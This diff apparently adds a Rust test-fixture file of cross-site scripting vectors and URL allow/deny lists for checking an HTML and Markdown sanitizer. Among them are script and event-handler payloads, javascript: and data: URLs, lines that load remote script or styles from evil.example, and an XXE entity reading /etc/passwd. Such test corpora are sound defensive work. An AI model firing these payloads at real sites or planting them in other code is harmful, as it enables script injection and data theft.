@@ -1,0 +1,116 @@
+//! Texts that have run in somebody's browser, or been shown as something else than they are.
+
+/// None is longer than the shortest field.
+pub(super) const VECTORS: [&str; 75] = [
+    // Scripts.
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
+    "<script\n>alert(1)</script\t>",
+    "</p><script>alert(1)</script><p>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "\"><script>alert(1)</script>",
+    "'-alert(1)-'",
+    "`${alert(1)}`",
+    "{{constructor.constructor('alert(1)')()}}",
+    "</title></textarea></style></noscript></script><script>alert(1)</script>",
+    // Events.
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)//",
+    "<img src='x'onerror=alert(1)",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<div style=\"animation-name:x\" onanimationstart=alert(1)>x</div>",
+    "\" onmouseover=\"alert(1)",
+    "' onmouseover='alert(1)",
+    "x onfocus=alert(1) autofocus tabindex=1",
+    // Addresses.
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=\" &#14;javascript:alert(1)\">x</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<a href=vbscript:msgbox(1)>x</a>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=data:text/html,<script>alert(1)</script>></object>",
+    "<embed src=//evil.example/x.swf>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+    "<style>@import'//evil.example/x.css';</style>",
+    "<p style=\"background:url(javascript:alert(1))\">x</p>",
+    "javascript:alert(1)",
+    "javascript&colon;alert(1)",
+    // Pictures that draw and formulas that count.
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><set attributeName=href to=javascript:alert(1)>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
+    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    // What changes when it is read again.
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
+    "<p id=\"</textarea><img src=x onerror=alert(1)>\"><textarea>",
+    "<table><td><a><table><td></a><img src=x onerror=alert(1)>",
+    "<select><template><img src=x onerror=alert(1)></template></select>",
+    // Comments and other ends.
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<?xml-stylesheet href=javascript:alert(1)?>",
+    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
+    "]]><script>alert(1)</script>",
+    // Entities.
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "&#x3c;svg/onload=alert(1)&#x3e",
+    "&quot;&apos;&nbsp;&notanentity;&",
+    // Markdown.
+    "[x](javascript:alert(1))",
+    "[x](<javascript:alert(1)>) and ![x](javascript:alert(1))",
+    "<javascript:alert(1)> and [x][1]\n\n[1]: data:text/html,<script>alert(1)</script>",
+    "[x](https://e.example/\"onmouseover=\"alert(1) \"title\")",
+    // Text that is not what it looks like.
+    "\u{202e}txt.exe\u{202c} and \u{2066}left\u{2069}",
+    "Zo\u{308}e\u{301}\u{327}\u{20dd} Za\u{335}\u{336}\u{337}lgo",
+    "a\u{200b}d\u{200d}m\u{feff}i\u{2060}n \u{ad}soft",
+    "＜script＞alert（1）＜／script＞",
+    "\u{ff1c}img src=x onerror=alert(1)\u{ff1e} \u{1f469}\u{200d}\u{1f680} \u{e0001}\u{fff9}",
+];
+
+/// Addresses that may be kept, and must stay addresses in what is made of them.
+pub(super) const ADDRESSES: [&str; 5] = [
+    "https://e.example/\"onmouseover=alert(1)//",
+    "https://e.example/'><script>alert(1)</script>",
+    "https://e.example/?a=1&lt=2&b=<svg/onload=alert(1)>",
+    "http://e.example/#javascript:alert(1)",
+    "HTTPS://e.example/\u{202e}/&quot;onclick=alert(1)",
+];
+
+/// Addresses that are none a page may lead to.
+pub(super) const NO_ADDRESSES: [&str; 14] = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "\u{1}javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "blob:https://e.example/1",
+    "file:///etc/passwd",
+    "ftp://e.example/",
+    "//evil.example/",
+    "/relative",
+    "https:",
+    "",
+];
